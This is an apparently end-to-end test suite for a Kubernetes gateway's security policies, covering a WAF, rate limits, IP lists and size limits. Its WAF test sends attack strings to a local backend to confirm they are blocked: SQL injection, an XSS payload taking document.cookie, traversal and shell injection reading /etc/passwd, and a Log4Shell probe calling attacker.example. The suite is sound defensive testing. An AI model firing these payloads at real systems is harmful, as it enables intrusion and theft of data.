// SecurityPolicy end to end (issue 8), through `snigate run` with curl against a real HTTP echo backend: the WAF
// (libmodsecurity + OWASP CRS) in block and detection-only mode, rate limits (local; Redis shared by two snigate
// processes; fail open / closed with Redis stopped), allow/deny lists behind a trusted X-Forwarded-For hop, body and
// header limits, the passthrough new-connection limit, policy status, a WAF the machine cannot run, and an Ingress
// with the ingress-nginx annotations.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createCA } from '../support/certs.ts';
import { tlsOutcome } from '../support/echo-client.ts';
import {
  type HttpEchoServer,
  startHttpEcho,
  startTcpEcho,
  type TcpEchoServer,
} from '../support/echo-server.ts';
import { freePort, type RunningServer, runClient, startRedis } from '../support/processes.ts';
import {
  MAIN,
  type Materialized,
  manifestDir,
  NODE,
  REPO,
  runSnigate,
  type Snigate,
  sleep,
  waitUntil,
} from './helpers.ts';

const ca = createCA('e2e security CA');
const HOSTS = [
  'waf.example.com',
  'detect.example.com',
  'rl.example.com',
  'shared.example.com',
  'closed.example.com',
  'xff.example.com',
  'allow.example.com',
  'deny.example.com',
  'size.example.com',
  'plain.example.com',
];
const cert = ca.issue({ cn: 'edge', sans: [...HOSTS, 'pt.example.com'], keyType: 'ec' });
const HTTPS = 443;
const PT = 444;
// Log4Shell probe, built so no source string looks like a template placeholder.
const JNDI = `$${'{'}jndi:ldap://attacker.example/a}`;

const indent = (pem: string, n: number) =>
  pem
    .trim()
    .split('\n')
    .map((l) => `${' '.repeat(n)}${l}`)
    .join('\n');

function secret(name: string): string {
  return `apiVersion: v1
kind: Secret
metadata: { name: ${name}, namespace: default }
type: kubernetes.io/tls
stringData:
  tls.crt: |
${indent(cert.certPem, 4)}
  tls.key: |
${indent(cert.keyPem, 4)}
`;
}

function service(name: string, port: number, svcPort = 80): string {
  return `apiVersion: v1
kind: Service
metadata: { name: ${name}, namespace: default }
spec:
  ports: [{ name: p, port: ${svcPort}, targetPort: ${port} }]
---
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: { name: ${name}-1, namespace: default, labels: { kubernetes.io/service-name: ${name} } }
addressType: IPv4
ports: [{ name: p, port: ${port} }]
endpoints: [{ addresses: ["127.0.0.1"], conditions: { ready: true } }]
`;
}

function httpRoute(name: string, host: string): string {
  return `apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: { name: ${name}, namespace: default }
spec:
  parentRefs: [{ name: edge, sectionName: https }]
  hostnames: ["${host}"]
  rules: [{ backendRefs: [{ name: echo, port: 80 }] }]
`;
}

function securityPolicy(
  name: string,
  target: { kind: 'HTTPRoute' | 'Gateway'; name: string; sectionName?: string },
  spec: string,
  created = '2024-01-01T00:00:00Z',
): string {
  const section = target.sectionName ? `, sectionName: ${target.sectionName}` : '';
  return `apiVersion: gateway.snigate.io/v1alpha1
kind: SecurityPolicy
metadata: { name: ${name}, namespace: default, creationTimestamp: "${created}" }
spec:
  targetRefs: [{ group: gateway.networking.k8s.io, kind: ${target.kind}, name: ${target.name}${section} }]
${indent(spec, 2)}
`;
}

const docs = (...d: string[]) => d.join('---\n');

function edgeGateway(): string {
  return `apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: { name: edge, namespace: default }
spec:
  gatewayClassName: snigate
  listeners:
    - { name: https, protocol: HTTPS, port: ${HTTPS}, hostname: "*.example.com", tls: { mode: Terminate, certificateRefs: [{ name: edge-cert }] } }
    - { name: pt, protocol: TLS, port: ${PT}, hostname: pt.example.com, tls: { mode: Passthrough } }
`;
}

interface CurlResult {
  status: number;
  headers: Record<string, string>;
  body: string;
  raw: string;
}

async function curl(
  port: number,
  host: string,
  path: string,
  args: string[] = [],
  scheme = 'https',
): Promise<CurlResult> {
  const r = await runClient(
    'curl',
    [
      '-sS',
      '-i',
      '--http1.1',
      '--cacert',
      ca.caFile,
      '--resolve',
      `${host}:${port}:127.0.0.1`,
      ...args,
      `${scheme}://${host}:${port}${path}`,
    ],
    { timeoutMs: 15_000 },
  );
  const raw = r.stdout;
  const split = raw.indexOf('\r\n\r\n');
  const head = split === -1 ? raw : raw.slice(0, split);
  const lines = head.split('\r\n');
  const status = Number(/^HTTP\/[\d.]+ (\d{3})/.exec(lines[0] ?? '')?.[1] ?? 0);
  const headers: Record<string, string> = {};
  for (const l of lines.slice(1)) {
    const i = l.indexOf(':');
    if (i > 0) headers[l.slice(0, i).toLowerCase()] = l.slice(i + 1).trim();
  }
  return { status, headers, body: split === -1 ? '' : raw.slice(split + 4), raw: raw + r.stderr };
}

/** `n` sequential requests on one keep-alive connection (one curl): their status codes. */
async function burst(port: number, host: string, n: number, scheme = 'https'): Promise<number[]> {
  const url = `${scheme}://${host}:${port}/burst`;
  const args = [
    '-s',
    '--http1.1',
    '--cacert',
    ca.caFile,
    '--resolve',
    `${host}:${port}:127.0.0.1`,
    '-w',
    '%{http_code}\n',
  ];
  for (let i = 0; i < n; i++) args.push(url, '-o', '/dev/null');
  const r = await runClient('curl', args, { timeoutMs: 30_000 });
  return r.stdout
    .trim()
    .split('\n')
    .map((s) => Number(s));
}

const count = (codes: number[], c: number) => codes.filter((x) => x === c).length;

let echo: HttpEchoServer;
let tcp: TcpEchoServer;
let redis: RunningServer;

before(async () => {
  echo = await startHttpEcho({ pod: 'echo-0', namespace: 'default' });
  tcp = await startTcpEcho({ pod: 'pt-0', namespace: 'default', tls: cert });
  redis = await startRedis();
});

after(async () => {
  await echo?.close();
  await tcp?.close();
  await redis?.stop();
  ca.cleanup();
});

describe('SecurityPolicy through an HTTPS listener', () => {
  let dir: Materialized;
  let a: Snigate;
  let b: Snigate;
  let port: number;

  before(async () => {
    const redisAddr = `127.0.0.1:${redis.port}`;
    const routes = HOSTS.map((h) => httpRoute(h.split('.')[0]!, h));
    dir = manifestDir({
      'gateway.yaml': docs(edgeGateway(), secret('edge-cert')),
      'backends.yaml': docs(service('echo', echo.port), service('pt', tcp.port, 443)),
      'routes.yaml': docs(
        ...routes,
        `apiVersion: gateway.networking.k8s.io/v1
kind: TLSRoute
metadata: { name: pt, namespace: default }
spec:
  parentRefs: [{ name: edge, sectionName: pt }]
  hostnames: ["pt.example.com"]
  rules: [{ backendRefs: [{ name: pt, port: 443 }] }]
`,
      ),
      'policies.yaml': docs(
        securityPolicy(
          'waf-block',
          { kind: 'HTTPRoute', name: 'waf' },
          'waf: { mode: Block, paranoiaLevel: 1 }',
        ),
        securityPolicy(
          'waf-dup',
          { kind: 'HTTPRoute', name: 'waf' },
          'waf: { mode: Detect }',
          '2024-06-01T00:00:00Z',
        ),
        securityPolicy('ghost', { kind: 'HTTPRoute', name: 'nope' }, 'waf: {}'),
        securityPolicy('waf-detect', { kind: 'HTTPRoute', name: 'detect' }, 'waf: { mode: Detect }'),
        securityPolicy(
          'rl',
          { kind: 'HTTPRoute', name: 'rl' },
          'rateLimit: { requests: 10, unit: Minute, burst: 10 }',
        ),
        securityPolicy(
          'shared',
          { kind: 'HTTPRoute', name: 'shared' },
          `rateLimit:\n  requests: 20\n  unit: Minute\n  burst: 20\n  backend: { type: Redis, redis: { address: "${redisAddr}", failMode: Open } }`,
        ),
        securityPolicy(
          'closed',
          { kind: 'HTTPRoute', name: 'closed' },
          `rateLimit:\n  requests: 100\n  unit: Second\n  backend: { type: Redis, redis: { address: "${redisAddr}", failMode: Closed } }`,
        ),
        securityPolicy(
          'xff',
          { kind: 'HTTPRoute', name: 'xff' },
          'clientIPDetection: { xForwardedFor: { trustedCIDRs: ["127.0.0.1/32"] } }\nipAccess: { deny: ["203.0.113.0/24"] }',
        ),
        securityPolicy(
          'allow',
          { kind: 'HTTPRoute', name: 'allow' },
          'clientIPDetection: { xForwardedFor: { trustedCIDRs: ["127.0.0.1/32"] } }\nipAccess: { allow: ["198.51.100.0/24"] }',
        ),
        securityPolicy('deny', { kind: 'HTTPRoute', name: 'deny' }, 'ipAccess: { deny: ["127.0.0.1/32"] }'),
        securityPolicy(
          'size',
          { kind: 'HTTPRoute', name: 'size' },
          'requestLimits: { maxBodyBytes: 1024, maxHeaderBytes: 4096 }',
        ),
        securityPolicy(
          'pt-conn',
          { kind: 'Gateway', name: 'edge', sectionName: 'pt' },
          'connectionRateLimit: { connections: 3, unit: Minute }',
        ),
      ),
    });
    a = await runSnigate({ files: [dir.dir], listenerPorts: [HTTPS, PT] });
    b = await runSnigate({ files: [dir.dir], listenerPorts: [HTTPS, PT] });
    port = a.port(HTTPS);
  });

  after(async () => {
    await a?.stop();
    await b?.stop();
    dir?.cleanup();
  });

  test('start-up says whether the WAF is available', () => {
    const started = a.logs().find((l) => l.msg === 'snigate started');
    assert.equal(
      (started?.waf as { available: boolean } | undefined)?.available,
      true,
      JSON.stringify(started),
    );
  });

  test('WAF, paranoia 1, block: attacks get 403 with a request id; ordinary requests pass', async () => {
    const attacks: [string, string, string[]][] = [
      ['SQLi in the query', '/search?q=x%27%20OR%201%3D1--', []],
      ['SQLi in a form body', '/login', ['-d', "user=admin' OR 1=1--&pw=x"]],
      [
        'SQLi in a JSON body',
        '/login',
        ['-H', 'content-type: application/json', '-d', JSON.stringify({ user: "admin' OR 1=1--" })],
      ],
      ['XSS', '/s?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', []],
      ['path traversal', '/files?name=../../../../etc/passwd', []],
      ['Log4Shell', '/', ['-H', `User-Agent: ${JNDI}`]],
      ['shell injection', '/ping?host=8.8.8.8;cat%20/etc/passwd', []],
      ['scanner user agent', '/', ['-A', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)']],
    ];
    const before = echo.requests.length;
    for (const [name, path, args] of attacks) {
      const r = await curl(port, 'waf.example.com', path, args);
      assert.equal(r.status, 403, `${name}: ${r.raw}`);
      const id = r.headers['x-request-id'];
      assert.ok(id, `${name}: x-request-id`);
      assert.match(r.body, new RegExp(`request id ${id}`), name);
      const audit = await a.waitForLog((l) => l.msg === 'waf' && l.requestId === id);
      assert.equal(audit.action, 'blocked', name);
    }
    assert.equal(echo.requests.length, before, 'no attack reached the backend');
    const ok: [string, string[]][] = [
      ['/', []],
      ['/api/items?id=42&sort=name', []],
      [
        '/api/comments',
        ['-H', 'content-type: application/json', '-d', '{"name":"Alice","comment":"Hello, world!"}'],
      ],
      ['/search?q=best+coffee+in+town', ['-A', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0']],
    ];
    for (const [path, args] of ok) {
      const r = await curl(port, 'waf.example.com', path, args);
      assert.equal(r.status, 200, `${path}: ${r.raw}`);
    }
    assert.equal(
      JSON.parse((await curl(port, 'waf.example.com', '/api/comments', ok[2]![1])).body).body,
      '{"name":"Alice","comment":"Hello, world!"}',
    );
  });

  test('WAF detection-only: the request is forwarded and an audit line is logged', async () => {
    const r = await curl(port, 'detect.example.com', '/search?q=x%27%20OR%201%3D1--');
    assert.equal(r.status, 200, r.raw);
    const id = r.headers['x-request-id'] ?? JSON.parse(r.body).headers['X-Request-Id']?.[0];
    const audit = await a.waitForLog((l) => l.msg === 'waf' && l.action === 'detected');
    assert.equal(audit.mode, 'detect');
    assert.ok(
      (audit.ruleIds as number[]).some((x) => String(x).startsWith('942')),
      JSON.stringify(audit),
    );
    if (id) assert.equal(audit.requestId, id);
  });

  test('local rate limit: 10/min burst 10 holds under a burst of 25 (429 + Retry-After + RateLimit-*)', async () => {
    const codes = await burst(port, 'rl.example.com', 25);
    assert.equal(codes.length, 25);
    // 10 from the bucket, at most 1 refilled while the burst runs (1 token / 6 s).
    assert.ok(count(codes, 200) >= 10 && count(codes, 200) <= 11, codes.join(' '));
    assert.equal(count(codes, 200) + count(codes, 429), 25, codes.join(' '));
    const r = await curl(port, 'rl.example.com', '/');
    assert.equal(r.status, 429, r.raw);
    assert.ok(Number(r.headers['retry-after']) >= 1, r.raw);
    assert.equal(r.headers['ratelimit-limit'], '10');
    assert.equal(r.headers['ratelimit-remaining'], '0');
    assert.equal(r.headers['ratelimit-policy'], '10;w=60;burst=10');
    assert.match(r.body, /request id/);
  });

  test('Redis rate limit shared by two snigate processes: 20/min in total', async () => {
    const [ca1, cb1] = await Promise.all([
      burst(a.port(HTTPS), 'shared.example.com', 15),
      burst(b.port(HTTPS), 'shared.example.com', 15),
    ]);
    const ok = count(ca1, 200) + count(cb1, 200);
    assert.ok(ok >= 20 && ok <= 21, `a: ${ca1.join(' ')} / b: ${cb1.join(' ')}`);
    assert.ok(count(ca1, 200) > 0 && count(cb1, 200) > 0, 'both processes served some');
    const ok200 = await curl(port, 'closed.example.com', '/');
    assert.equal(ok200.status, 200, ok200.raw);
    assert.ok(ok200.headers['ratelimit-remaining'], 'RateLimit-* on allowed responses');
  });

  test('allow / deny lists, X-Forwarded-For only from a trusted hop', async () => {
    const xff = (ip: string) => ['-H', `X-Forwarded-For: ${ip}`];
    assert.equal((await curl(port, 'xff.example.com', '/', xff('203.0.113.9'))).status, 403);
    assert.equal(
      (await curl(port, 'xff.example.com', '/', xff('203.0.113.9, 198.51.100.1'))).status,
      200,
      'rightmost untrusted hop is the client',
    );
    assert.equal((await curl(port, 'xff.example.com', '/', xff('198.51.100.7'))).status, 200);
    assert.equal((await curl(port, 'xff.example.com', '/')).status, 200);
    assert.equal((await curl(port, 'allow.example.com', '/', xff('198.51.100.7'))).status, 200);
    assert.equal((await curl(port, 'allow.example.com', '/', xff('192.0.2.1'))).status, 403);
    assert.equal((await curl(port, 'allow.example.com', '/')).status, 403, 'peer 127.0.0.1 is not allowed');
    // No clientIPDetection: the header is not believed.
    assert.equal((await curl(port, 'deny.example.com', '/', xff('198.51.100.7'))).status, 403);
    assert.equal((await curl(port, 'plain.example.com', '/')).status, 200);
  });

  test('body (413) and header (431) size limits', async () => {
    const small = await curl(port, 'size.example.com', '/up', ['--data-binary', 'x'.repeat(500)]);
    assert.equal(small.status, 200, small.raw);
    const big = await curl(port, 'size.example.com', '/up', ['--data-binary', 'x'.repeat(2000)]);
    assert.equal(big.status, 413, big.raw);
    const chunked = await curl(port, 'size.example.com', '/up', [
      '-H',
      'transfer-encoding: chunked',
      '--data-binary',
      'y'.repeat(5000),
    ]);
    assert.equal(chunked.status, 413, chunked.raw);
    const headers = await curl(port, 'size.example.com', '/', ['-H', `x-big: ${'h'.repeat(6000)}`]);
    assert.equal(headers.status, 431, headers.raw);
  });

  test('passthrough listener: new connections per client over the limit are closed', async () => {
    const p = a.port(PT);
    const outcomes = [];
    for (let i = 0; i < 5; i++)
      outcomes.push(
        await tlsOutcome({
          port: p,
          tls: { servername: 'pt.example.com', ca: ca.certPem },
          timeoutMs: 5_000,
        }),
      );
    assert.deepEqual(
      outcomes.map((o) => o.kind),
      ['handshake', 'handshake', 'handshake', outcomes[3]!.kind, outcomes[4]!.kind],
    );
    assert.ok(['eof', 'reset'].includes(outcomes[3]!.kind), JSON.stringify(outcomes));
    const c = await a.waitForConnection((x) => x.end === 'rate-limited');
    assert.equal(c.listener, 'default/edge/pt');
  });

  test('policy status: Accepted, Conflicted (newer policy on the same target), TargetNotFound', async () => {
    const st = await a.status();
    const cond = (name: string) => {
      const o = st.statuses.find((s) => s.kind === 'SecurityPolicy' && s.metadata.name === name);
      const ancestors = o?.status.ancestors as
        | { conditions: { type: string; status: string; reason: string }[] }[]
        | undefined;
      const anc = ancestors?.[0];
      return anc?.conditions.find((c) => c.type === 'Accepted');
    };
    assert.equal(cond('waf-block')?.status, 'True');
    assert.equal(cond('waf-block')?.reason, 'Accepted');
    assert.equal(cond('waf-dup')?.reason, 'Conflicted');
    assert.equal(cond('waf-dup')?.status, 'False');
    assert.equal(cond('ghost')?.reason, 'TargetNotFound');
    assert.equal(cond('pt-conn')?.reason, 'Accepted');
  });

  test('Redis stopped: failMode Open lets requests through, Closed answers 429', async () => {
    await redis.stop();
    const open = await burst(port, 'shared.example.com', 5);
    assert.deepEqual(open, [200, 200, 200, 200, 200], 'fail open');
    const closed = await curl(port, 'closed.example.com', '/');
    assert.equal(closed.status, 429, closed.raw);
    assert.ok(Number(closed.headers['retry-after']) >= 1);
    await a.waitForLog((l) => l.msg === 'rate limit redis unreachable');
  });
});

describe('a SecurityPolicy asking for the WAF when the addon cannot load', () => {
  let dir: Materialized;
  let gw: Snigate;
  const MISSING = '/nonexistent/snigate/modsecurity.node';

  before(async () => {
    dir = manifestDir({
      'gateway.yaml': docs(edgeGateway(), secret('edge-cert')),
      'backends.yaml': docs(service('echo', echo.port), service('pt', tcp.port, 443)),
      'routes.yaml': httpRoute('plain', 'plain.example.com'),
    });
    gw = await runSnigate({
      files: [dir.dir],
      listenerPorts: [HTTPS, PT],
      extraArgs: ['--waf-addon', MISSING],
    });
  });

  after(async () => {
    await gw?.stop();
    dir?.cleanup();
  });

  test('start-up logs the WAF unavailable; adding the policy is a refused reload; the last good config serves', async () => {
    const started = gw.logs().find((l) => l.msg === 'snigate started');
    const waf = started?.waf as { available: boolean; reason: string };
    assert.equal(waf.available, false);
    assert.match(waf.reason, /nonexistent/);
    const port = gw.port(HTTPS);
    assert.equal((await curl(port, 'plain.example.com', '/')).status, 200);
    dir.write(
      'policy.yaml',
      securityPolicy('waf', { kind: 'HTTPRoute', name: 'plain' }, 'waf: { mode: Block }'),
    );
    const st = await waitUntil('refused reload', async () => {
      const s = await gw.status();
      return s.lastReload?.ok === false ? s : undefined;
    });
    assert.match(st.lastReload!.errors.join('\n'), /enables the WAF, but it is unavailable/);
    // Still served, by the last good configuration (no WAF there, and no silent "WAF on" either).
    assert.equal((await curl(port, 'plain.example.com', '/search?q=x%27%20OR%201%3D1--')).status, 200);
  });

  test('the same manifests at start-up: snigate refuses to start', async () => {
    const offset = 20_000 + ((await freePort()) % 10_000);
    const r = await runClient(
      NODE,
      [
        MAIN,
        'run',
        '-f',
        dir.dir,
        '--address',
        '127.0.0.1',
        '--port-offset',
        String(offset),
        '--admin',
        'off',
        '--waf-addon',
        MISSING,
      ],
      { timeoutMs: 30_000, cwd: REPO },
    );
    assert.notEqual(r.code, 0, r.stdout + r.stderr);
    assert.match(r.stdout + r.stderr, /WAF, but it is unavailable/);
  });
});

describe('Ingress with the ingress-nginx annotations (enable-modsecurity, modsecurity-snippet, limit-rps)', () => {
  let dir: Materialized;
  let gw: Snigate;
  let port: number;

  before(async () => {
    dir = manifestDir({
      'ingress.yaml': docs(
        `apiVersion: networking.k8s.io/v1
kind: IngressClass
metadata: { name: snigate }
spec: { controller: snigate.io/ingress-controller }
`,
        `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
  namespace: default
  annotations:
    nginx.ingress.kubernetes.io/enable-modsecurity: "true"
    nginx.ingress.kubernetes.io/enable-owasp-core-rules: "true"
    nginx.ingress.kubernetes.io/modsecurity-snippet: |
      SecRuleEngine On
      SecRuleRemoveById 913100
      SecRule ARGS "@rx evil" "id:1001,phase:2,deny"
    nginx.ingress.kubernetes.io/limit-rps: "2"
    nginx.ingress.kubernetes.io/limit-burst-multiplier: "3"
spec:
  ingressClassName: snigate
  rules:
    - host: shop.example.com
      http:
        paths: [{ path: /, pathType: Prefix, backend: { service: { name: echo, port: { number: 80 } } } }]
`,
      ),
      'backends.yaml': service('echo', echo.port),
    });
    gw = await runSnigate({ files: [dir.dir], listenerPorts: [80] });
    port = gw.port(80);
  });

  after(async () => {
    await gw?.stop();
    dir?.cleanup();
  });

  test('SecRuleEngine On blocks, SecRuleRemoveById applies, other snippet lines are refused with a diagnostic', async () => {
    const sqli = await curl(port, 'shop.example.com', '/search?q=x%27%20OR%201%3D1--', [], 'http');
    assert.equal(sqli.status, 403, sqli.raw);
    const nikto = await curl(
      port,
      'shop.example.com',
      '/',
      ['-A', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'],
      'http',
    );
    assert.equal(nikto.status, 200, `913100 removed: ${nikto.raw}`);
    const refused = gw.logs().find((l) => l.code === 'annotation-refused');
    assert.ok(refused, 'a warning for the refused SecRule line');
    assert.match(String(refused.msg), /SecRule ARGS/);
  });

  test('limit-rps 2 × burst multiplier 3: 6 at once (+ refill), then 429', async () => {
    await sleep(3_100); // the bucket refills (2/s, capacity 6) after the requests above
    const codes = await burst(port, 'shop.example.com', 15, 'http');
    const ok = count(codes, 200);
    assert.ok(ok >= 6 && ok <= 8, codes.join(' '));
    assert.equal(ok + count(codes, 429), 15, codes.join(' '));
  });
});
